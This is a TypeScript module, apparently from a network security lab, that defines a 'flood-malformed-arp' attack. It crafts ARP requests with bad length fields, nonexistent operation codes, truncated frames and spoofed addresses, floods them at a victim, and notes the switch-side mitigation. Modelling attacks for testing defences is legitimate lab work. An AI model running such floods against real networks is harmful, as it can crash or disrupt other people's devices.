// SPDX-License-Identifier: Apache-2.0
import { arp, broadcast } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { flooded, offset, type Scene, type Wave } from "../flooding.ts";

const UNKNOWN = "00:00:00:00:00:00";

/** `at`: byte of the frame that is made wrong. */
export function waves({ attacker, victim }: Scene): Wave[] {
  const link = { from: attacker.mac, to: broadcast };
  const request = (sender: string, target: string): Uint8Array => arp(link, 1, { mac: attacker.mac, ip: sender }, { mac: UNKNOWN, ip: target });
  const wrong = (at: number, value: number): Uint8Array => request(attacker.v4, victim.v4).map((byte, i) => (i === at ? value : byte));
  return [
    { what: "hardware addresses of 255 bytes", frame: wrong(18, 255), countingAt: offset.arpTarget },
    { what: "protocol addresses of 16 bytes", frame: wrong(19, 16), countingAt: offset.arpTarget },
    { what: "operations that there are not", frame: wrong(21, 9), countingAt: 20 },
    { what: "cut short", frame: request(attacker.v4, victim.v4).subarray(0, 30), countingAt: 28 },
    { what: "from invented hardware addresses", frame: request(attacker.v4, victim.v4), countingAt: 26 },
    { what: "from invented addresses of the network", frame: request("10.77.0.200", victim.v4), countingAt: offset.arpSender },
    { what: "about everybody", frame: request(attacker.v4, "10.77.0.0"), countingAt: offset.arpTarget },
  ];
}

export const floodMalformedArp: Attack = {
  slug: "flood-malformed-arp",
  needs: "a place on the network",
  gains: "every station receives and reads each of them; a program that reads them may fail",
  stoppedBy: "the switch answers ARP itself, without the gateway; what is held for it (claims of an address) is metered for each device",
  takesVictim: true,
  run: (field) => flooded(field, waves(field)),
};
